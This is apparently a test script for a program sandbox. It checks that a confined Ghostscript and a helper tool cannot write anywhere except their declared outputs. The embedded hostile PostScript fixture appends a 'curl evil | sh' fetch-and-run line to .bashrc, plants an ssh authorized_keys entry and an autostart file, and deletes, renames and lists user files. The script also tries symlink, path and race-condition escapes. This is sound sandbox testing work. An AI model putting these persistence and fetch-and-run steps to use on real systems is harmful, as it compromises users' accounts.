#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# Declared outputs are the only names a confined program may write
# (issue 22, items 1 and 3), tried as an attacker would, from a home
# directory (under /var/tmp: a /tmp grant would hide the holes), as root
# and as nobody. Every attack first runs unconfined, to show it works.
#
# 1. gs taken over by a hostile document (-dNOSAFER stands for a gs whose
#    own SAFER the document defeated), writing to -o %stdout from $HOME or
#    to -sOutputFile=$HOME/page-%d.png: its PostScript appends to .bashrc,
#    truncates .profile, creates .ssh/authorized_keys and an autostart
#    entry, deletes and renames files and lists directories. None of it
#    happens confined, and the output is the unconfined run's, byte for
#    byte. %pipe% and | outputs are refused before gs runs.
# 2. A directory operand (file DIR) lists DIR, not its subdirectories.
# 3. The broker itself, driven by tests/escape/creator under a profile
#    declaring a pattern (page-%d.png) and an exact output (out.pdf): a
#    create that matches is served; a name that does not match, a
#    subdirectory, a symlink, "..", an existing file, a rename, an unlink,
#    a listing are refused (the opens in the output directory reported);
#    a target that flips its path or its directory descriptor while it
#    opens gets nothing more; an output never written is not left behind.
source "$top_srcdir/tests/lib/tap.sh"
CREATOR=$top_builddir/tests/escape/creator
scratch=$(tap_tmp)

# A home (or test case) directory the runner's user owns.
new_dir() { # new_dir RUNNER
	local d
	d=$(tap_home)
	[ "$1" = as_nobody ] && chown nobody:nogroup "$d"
	echo "$d"
}
own() { # own RUNNER DIR: hand what the test planted in DIR to the runner
	[ "$1" = as_nobody ] && chown -R nobody:nogroup "$2"
	return 0
}

# run RUNNER DIR CMD...: CMD in DIR; stdout in $out, stderr in $err,
# exit status in $rc.
run() {
	local runner=$1 dir=$2
	shift 2
	$runner bash -c 'cd "$1" && shift && exec "$@"' -- "$dir" "$@" \
		>"$scratch/out" 2>"$scratch/err" </dev/null
	rc=$?
	out=$(cat "$scratch/out")
	err=$(cat "$scratch/err")
}

# What is in DIR: type, name, symlink target, and each file's checksum.
snapshot() {
	(cd "$1" && find . -mindepth 1 -printf '%y %p %l\n' | sort &&
		find . -type f -exec sha256sum {} + | sort -k 2)
}

# same_tree DESC BEFORE AFTER: two snapshots agree; the difference if not.
same_tree() {
	if [ "$2" = "$3" ]; then ok 0 "$1"; else
		ok 1 "$1"
		diff <(echo "$2") <(echo "$3") | grep '^[<>]' | head -8 | sed 's/^/#   /'
	fi
}

# reported NAME: a denial line on stderr names NAME.
reported() { grep -i 'denied' <<<"$err" | grep -qF -- "$1"; }

## 1. gs and a hostile document ##############################################

# The home an attacker would like to reach, and the document, written for it.
gs_home() { # gs_home RUNNER: print the new home's path
	local h
	h=$(new_dir "$1")
	mkdir -p "$h/.ssh" "$h/.config/autostart" "$h/sub"
	echo 'export PATH=/usr/bin:/bin' >"$h/.bashrc"
	echo 'umask 022' >"$h/.profile"
	echo 'my notes' >"$h/notes.txt"
	echo 'PRIVATE KEY' >"$h/.ssh/id_ed25519"
	echo 'in home' >"$h/secret-in-home"
	echo 'in sub' >"$h/sub/secret-in-sub"
	evil_ps "$h" >"$h/evil.ps"
	own "$1" "$h"
	echo "$h"
}

# Each attempt is caught (stopped), so that the pages render after it; what
# it did goes to standard error, listings included, so standard output is
# the text device's alone.
evil_ps() {
	cat <<EOF
%!PS
/err (%stderr) (w) file def
/say { err exch writestring err flushfile } bind def
/attempt { % (label) {proc}
	exch /label exch def
	mark exch stopped
	{ cleartomark (evil: failed ) say label say (\n) say }
	{ cleartomark (evil: done ) say label say (\n) say } ifelse
} bind def
/lister { (evil: listed ) say say (\n) say } def
(append .bashrc) { ($1/.bashrc) (a) file dup (curl evil | sh\n) writestring closefile } attempt
(truncate .profile) { ($1/.profile) (w) file closefile } attempt
(create .ssh/authorized_keys) { ($1/.ssh/authorized_keys) (w) file dup (ssh-ed25519 AAAA evil\n) writestring closefile } attempt
(create autostart) { ($1/.config/autostart/x.desktop) (w) file dup ([Desktop Entry]\n) writestring closefile } attempt
(delete notes.txt) { ($1/notes.txt) deletefile } attempt
(rename .ssh/id_ed25519) { ($1/.ssh/id_ed25519) ($1/.ssh/stolen) renamefile } attempt
(list home) { ($1/*) /lister load 1024 string filenameforall } attempt
(list sub) { ($1/sub/*) /lister load 1024 string filenameforall } attempt
/Helvetica findfont 24 scalefont setfont
72 700 moveto (The first page of a hostile document) show showpage
72 700 moveto (The second page) show 100 100 200 200 rectfill showpage
EOF
}

# What each attempt leaves behind: effect NAME HOME (stderr in $err).
gs_effects=(appends-to-.bashrc truncates-.profile creates-.ssh/authorized_keys
	creates-.config/autostart/x.desktop deletes-notes.txt renames-.ssh/id_ed25519
	lists-home lists-home/sub)
effect() {
	local h=$2
	case $1 in
	appends-to-.bashrc) grep -q evil "$h/.bashrc" ;;
	truncates-.profile) [ ! -s "$h/.profile" ] ;;
	creates-.ssh/authorized_keys) [ -e "$h/.ssh/authorized_keys" ] ;;
	creates-.config/autostart/x.desktop) [ -e "$h/.config/autostart/x.desktop" ] ;;
	deletes-notes.txt) [ ! -e "$h/notes.txt" ] ;;
	renames-.ssh/id_ed25519) [ ! -e "$h/.ssh/id_ed25519" ] || [ -e "$h/.ssh/stolen" ] ;;
	lists-home) grep -qF "evil: listed $h/secret-in-home" <<<"$err" ;;
	lists-home/sub) grep -qF "evil: listed $h/sub/secret-in-sub" <<<"$err" ;;
	*) bail "no effect named $1" ;;
	esac
}

# gs_attack RUNNER HOW GS-ARGS...: the document run unconfined in one home
# and confined in another; "HOME" in GS-ARGS stands for the home.
gs_attack() {
	local runner=$1 how=$2 who=${1#as_} twin conf e before after want_out
	shift 2
	twin=$(gs_home "$runner")
	conf=$(gs_home "$runner")
	run "$runner" "$twin" gs "${@//HOME/$twin}"
	is "$rc" 0 "gs $how as $who, unconfined: exits 0"
	for e in "${gs_effects[@]}"; do
		effect "$e" "$twin"
		ok $? "gs $how as $who, unconfined: the document ${e//-/ }"
	done
	want_out=$out
	before=$(snapshot "$conf")
	run "$runner" "$conf" "$SANDBOX_RUN" gs "${@//HOME/$conf}"
	is "$rc" 0 "sandbox-run gs $how as $who: exits 0 as unconfined" || diag "${err:0:300}"
	for e in "${gs_effects[@]}"; do
		! effect "$e" "$conf"
		ok $? "sandbox-run gs $how as $who: the document never ${e//-/ }"
	done
	after=$(snapshot "$conf" | grep -v '/page-[0-9]*\.png')
	same_tree "sandbox-run gs $how as $who: nothing in the home changed but the pages" \
		"$before" "$after"
	is "$out" "$want_out" "sandbox-run gs $how as $who: standard output as unconfined"
	case $how in
	"-o %stdout" | "-o -")
		like "$out" 'first page of a hostile' "gs $how as $who: the text is on standard output"
		return ;;
	esac
	# The pattern's directory is the home: refusals there are reported.
	reported "$conf/.bashrc"
	ok $? "sandbox-run gs $how as $who: appending to .bashrc is reported"
	reported "$conf/.profile"
	ok $? "sandbox-run gs $how as $who: truncating .profile is reported"
	for p in page-1.png page-2.png; do
		cmp -s "$twin/$p" "$conf/$p"
		ok $? "sandbox-run gs $how as $who: $p is the unconfined run's"
	done
	[ ! -e "$twin/page-3.png" ] && [ ! -e "$conf/page-3.png" ]
	ok $? "gs $how as $who: two pages, no third, both runs"
}

# pipe_refused RUNNER HOW GS-OUTPUT-ARG...: a command as output runs
# unconfined; confined, sandbox-run refuses the command line in one line,
# exit 125, before gs (which would append to .bashrc) runs. The command
# names no directory, so a launcher that took it for a file name in the
# current directory would not refuse it by accident.
pipe_refused() {
	local runner=$1 how=$2 who=${1#as_} h
	shift 2
	h=$(gs_home "$runner")
	run "$runner" "$h" gs -q -dNOSAFER -dBATCH -dNOPAUSE -sDEVICE=txtwrite "$@" evil.ps
	[ -e "$h/piped" ]
	ok $? "gs $how as $who, unconfined: runs the command"
	h=$(gs_home "$runner")
	run "$runner" "$h" "$SANDBOX_RUN" gs -q -dNOSAFER -dBATCH -dNOPAUSE -sDEVICE=txtwrite "$@" evil.ps
	is "$rc" 125 "sandbox-run gs $how as $who: refused, exit 125"
	is "$(wc -l <<<"$err") ${err:0:12}" "1 sandbox-run:" \
		"sandbox-run gs $how as $who: one line says why"
	[ ! -e "$h/piped" ] && ! grep -q evil "$h/.bashrc" && [ "$(ls "$h")" = "$(printf 'evil.ps\nnotes.txt\nsecret-in-home\nsub')" ]
	ok $? "sandbox-run gs $how as $who: neither the command nor gs ran"
}

for runner in $(runners); do
	gs_attack "$runner" "-o %stdout" -q -dNOSAFER -sDEVICE=txtwrite -o %stdout evil.ps
	# - is standard output too: nothing granted. (gs 10.00 itself cannot
	# write a device's output to %stderr.)
	gs_attack "$runner" "-o -" -q -dNOSAFER -sDEVICE=txtwrite -o - evil.ps
	gs_attack "$runner" "-sOutputFile=HOME/page-%d.png" -q -dNOSAFER -dBATCH -dNOPAUSE \
		-sDEVICE=png16m -r50 -sOutputFile=HOME/page-%d.png evil.ps
	pipe_refused "$runner" "-o %pipe%CMD" -o '%pipe%touch piped'
	pipe_refused "$runner" "-sOutputFile=|CMD" '-sOutputFile=|touch piped'
done

## 2. A directory operand lists that directory only ##########################

for runner in $(runners); do
	who=${runner#as_}
	h=$(new_dir "$runner")
	mkdir "$h/sub"
	echo top >"$h/top-file"
	echo secret >"$h/sub/secret"
	own "$runner" "$h"
	run "$runner" "$h" "$CREATOR" --tree "$h"
	grep -qxF "listed $h/sub/secret" <<<"$out"
	ok $? "creator --tree HOME as $who, unconfined: lists HOME/sub"
	run "$runner" "$h" "$SANDBOX_RUN" -p "$top_srcdir/profiles/file.ini" "$CREATOR" --tree "$h"
	grep -qxF "listed $h/top-file" <<<"$out"
	ok $? "sandbox-run -p file.ini creator --tree HOME as $who: lists HOME" || diag "$out $err"
	! grep -qF "listed $h/sub/" <<<"$out"
	ok $? "sandbox-run -p file.ini creator --tree HOME as $who: does not list HOME/sub"
	like "$out" "tree-path $h/sub: E[A-Z]+" "... HOME/sub by its path is refused"
	like "$out" "tree-at $h/sub: E[A-Z]+" "... HOME/sub through HOME's descriptor is refused"
	run "$runner" "$h" file "$h"
	want=$out
	run "$runner" "$h" "$SANDBOX_RUN" file "$h"
	is "$rc $out" "0 $want" "sandbox-run file HOME as $who: what file says unconfined"
done

## 3. The broker: creator under a profile with declared outputs ##############

broker_ini=$scratch/broker.ini
cat >"$broker_ini" <<EOF
[profile]
description = outputs test: a pattern (-o) and an exact output (--exact)
promises = stdio rpath thread
on-violation = deny
landlock = required

[arguments]
operands = none
output-options = -o --exact
output-promises = wpath cpath
EOF

# A test case: CASE/out is the output directory (page-%d.png, out.pdf);
# beside it a victim and a symlink to out/; in it a subdirectory, a file
# of the user's, an existing page and a symlink named like a page.
new_case() { # new_case RUNNER
	local c
	c=$(new_dir "$1")
	mkdir "$c/out" "$c/out/sub"
	echo victim >"$c/victim"
	echo keep >"$c/out/keep.txt"
	echo old >"$c/out/page-4.png"
	ln -s ../victim "$c/out/page-2.png"
	ln -s out "$c/alias"
	own "$1" "$c"
	echo "$c"
}
DECLARE=(-o CASE/out/page-%d.png --exact CASE/out/out.pdf)
# The snapshot without the exact output, which no attack writes: whether
# it is left behind unwritten is a test of its own below.
beside_exact() { snapshot "$1" | grep -Ev ' \./out/out\.pdf($| )'; }

# creator RUNNER CASE [sandbox-run -p INI] ARGS...: "CASE" in ARGS stands
# for the case directory.
creator() {
	local runner=$1 c=$2
	shift 2
	run "$runner" "$c" "${@//CASE/$c}"
}
confined() { local r=$1 c=$2; shift 2; creator "$r" "$c" "$SANDBOX_RUN" -p "$broker_ini" "$CREATOR" "$@"; }
unconfined() { local r=$1 c=$2; shift 2; creator "$r" "$c" "$CREATOR" "$@"; }

# verdict ACTION PATH: what creator said about that action.
verdict() {
	local line
	while IFS= read -r line; do
		[[ $line == "$1 $2: "* ]] && { echo "${line#"$1 $2: "}"; return; }
	done <<<"$out"
	echo "(no verdict; exit $rc: ${err%%$'\n'*})"
}

# Attacks: description | reported? | what it does when it works ($c: the
# case) | creator's actions (CASE: the case). Opens in the output
# directory are the broker's to refuse, so they are reported; the rest is
# Landlock's (or the filter's), refused quietly.
attacks=$(cat <<'EOF'
a name the pattern does not match|reported|test -e $c/out/notes.txt|--create CASE/out/notes.txt
a name with the pattern's prefix and suffix|reported|test -e $c/out/page-x.png|--create CASE/out/page-x.png
a page name with a suffix|reported|test -e $c/out/page-1.png.sh|--create CASE/out/page-1.png.sh
a page in a subdirectory|reported|test -e $c/out/sub/page-1.png|--create CASE/out/sub/page-1.png
a page through a symlink planted in the output directory|reported|grep -q creator $c/victim|--create CASE/out/page-2.png
a page through ..|reported|test -e $c/page-3.png|--create CASE/out/../page-3.png
a page that exists already|reported|grep -q creator $c/out/page-4.png|--create CASE/out/page-4.png
a page that exists already, by open(2)|reported|grep -q creator $c/out/page-4.png|--open CASE/out/page-4.png
a page that exists already, by creat(2)|reported|grep -q creator $c/out/page-4.png|--creat CASE/out/page-4.png
appending to a file of the user's there|reported|grep -q creator $c/out/keep.txt|--append CASE/out/keep.txt
truncating a file of the user's there|reported|test ! -s $c/out/keep.txt|--trunc CASE/out/keep.txt
an existing file by openat2(2)|no|grep -q creator $c/out/keep.txt|--openat2 CASE/out/keep.txt
a page name through a descriptor of the subdirectory|no|test -e $c/out/sub/page-5.png|--at CASE/out/sub page-5.png
a file there through a symlink to the directory|no|test ! -s $c/out/keep.txt|--trunc CASE/alias/keep.txt
a new file there through a symlink to the directory|no|test -e $c/out/notes.txt|--create CASE/alias/notes.txt
a subdirectory|no|test -d $c/out/newdir|--mkdir CASE/out/newdir
unlinking a file there|no|test ! -e $c/out/keep.txt|--unlink CASE/out/keep.txt
renaming a file there to a page name|no|test -e $c/out/page-9.png|--rename CASE/out/keep.txt CASE/out/page-9.png
renaming a page that exists already|no|test ! -e $c/out/page-4.png|--rename CASE/out/page-4.png CASE/moved.png
listing the output directory|no|grep -q 'listed .*/keep.txt' <<<"$out"|--list CASE/out
EOF
)

# attack RUNNER DESC REPORTED EFFECT ACTION ARG...
attack() {
	local runner=$1 desc=$2 report=$3 effect=$4 who=${1#as_} c before path
	shift 4
	c=$(new_case "$runner")
	path=${2//CASE/$c}
	unconfined "$runner" "$c" "$@"
	is "$(verdict "${1#--}" "$path")" ok "unconfined as $who: $desc works"
	eval "$effect"
	ok $? "unconfined as $who: $desc has its effect"
	c=$(new_case "$runner")
	path=${2//CASE/$c}
	before=$(beside_exact "$c")
	confined "$runner" "$c" "${DECLARE[@]}" "$@"
	# ENOSYS: the filter's answer to openat2, which libc takes for "fall back"
	like "$(verdict "${1#--}" "$path")" '^E(ACCES|PERM|EXIST|LOOP|XDEV|NOSYS)$' \
		"confined as $who: $desc is refused"
	same_tree "confined as $who: $desc changes nothing" "$before" "$(beside_exact "$c")"
	if [ "$report" = reported ]; then
		reported "${path##*/}"
		ok $? "confined as $who: $desc is reported" || diag "stderr: $err"
	fi
}

# served RUNNER DESC CHECK ARG...: the actions all work confined, CHECK
# holds after, and nothing is reported.
served() {
	local runner=$1 desc=$2 check=$3 who=${1#as_} c
	shift 3
	c=$(new_case "$runner")
	confined "$runner" "$c" "$@"
	is "$rc" 0 "confined as $who: $desc is served" || diag "$out $err"
	eval "$check"
	ok $? "confined as $who: $desc: the file holds what was written through the descriptor"
	unlike "$err" 'denied' "confined as $who: $desc: nothing reported"
}

# The snapshot without the page names directly in out/: what a race may
# change, served.
beside_pages() { beside_exact "$1" | grep -Ev ' \./out/page-[0-9]+\.png($| )'; }

# race RUNNER DESC ACTION ARG...: unconfined the racing target reaches
# past the page name; confined the case changes by page names in out/ only.
race() {
	local runner=$1 desc=$2 who=${1#as_} c before
	shift 2
	c=$(new_case "$runner")
	before=$(beside_pages "$c")
	unconfined "$runner" "$c" "$@"
	[ "$(beside_pages "$c")" != "$before" ]
	ok $? "unconfined as $who: $desc reaches past the page name" || diag "$out"
	c=$(new_case "$runner")
	before=$(beside_pages "$c")
	confined "$runner" "$c" "${DECLARE[@]}" "$@"
	like "$out" '^race .*: [0-9]+ of 1000 opened' "confined as $who: $desc ran" || diag "$err"
	same_tree "confined as $who: $desc gets nothing but page names" "$before" \
		"$(beside_pages "$c")"
}

for runner in $(runners); do
	while IFS='|' read -r desc report effect actions; do
		# shellcheck disable=SC2086 # actions are words
		attack "$runner" "$desc" "$report" "$effect" $actions
	done <<<"$attacks"

	served "$runner" "a new page" '[ "$(cat $c/out/page-1.png)" = "creator create" ]' \
		"${DECLARE[@]}" --create CASE/out/page-1.png
	served "$runner" "a new page by open(2) and creat(2)" \
		'grep -qx "creator open" $c/out/page-10.png && grep -qx "creator creat" $c/out/page-11.png' \
		"${DECLARE[@]}" --open CASE/out/page-10.png --creat CASE/out/page-11.png
	served "$runner" "the exact output, new" '[ "$(cat $c/out/out.pdf)" = "creator create" ]' \
		"${DECLARE[@]}" --create CASE/out/out.pdf
	served "$runner" "a page this run created, reopened" \
		'[ "$(cat $c/out/page-1.png)" = "$(printf "creator create\ncreator append")" ]' \
		"${DECLARE[@]}" --create CASE/out/page-1.png --append CASE/out/page-1.png
	served "$runner" "width, %%, %ld, %i and %u in patterns" \
		'[ -s $c/out/p007.png ] && [ -s "$c/out/pct%-12.txt" ] && [ -s $c/out/i3 ] && [ -s $c/out/u4 ]' \
		-o CASE/out/p%03d.png -o CASE/out/pct%%-%ld.txt -o CASE/out/i%i -o CASE/out/u%u \
		--create CASE/out/p007.png --create 'CASE/out/pct%-12.txt' --create CASE/out/i3 \
		--create CASE/out/u4
	c=$(new_case "$runner")
	confined "$runner" "$c" -o CASE/out/pct%%-%ld.txt --create 'CASE/out/pct%%-12.txt'
	like "$(verdict create "$c/out/pct%%-12.txt")" '^E[A-Z]+$' \
		"confined as ${runner#as_}: %% in a pattern is one %, not two" 

	# The exact output when it exists: truncated and written.
	c=$(new_case "$runner")
	echo old >"$c/out/out.pdf" && own "$runner" "$c"
	confined "$runner" "$c" "${DECLARE[@]}" --trunc CASE/out/out.pdf --append CASE/out/out.pdf
	is "$rc $(cat "$c/out/out.pdf")" "0 creator append" \
		"confined as ${runner#as_}: the exact output, existing, is truncated and written"

	# An output never written is not left behind (nor is it unconfined).
	c=$(new_case "$runner")
	confined "$runner" "$c" "${DECLARE[@]}" --exact CASE/out/never.pdf --create CASE/out/page-1.png
	[ ! -e "$c/out/never.pdf" ] && [ ! -e "$c/out/out.pdf" ]
	ok $? "confined as ${runner#as_}: outputs never written are not left behind"

	race "$runner" "flipping the path to ../victim" \
		--race CASE/out/page-5.png CASE/out/../victim 1000
	race "$runner" "flipping the path to a file of the user's there" \
		--race CASE/out/page-6.png CASE/out/keep.txt 1000
	race "$runner" "flipping the directory descriptor to out/sub" \
		--race-fd CASE/out CASE/out/sub page-7.png 1000
done
done_testing
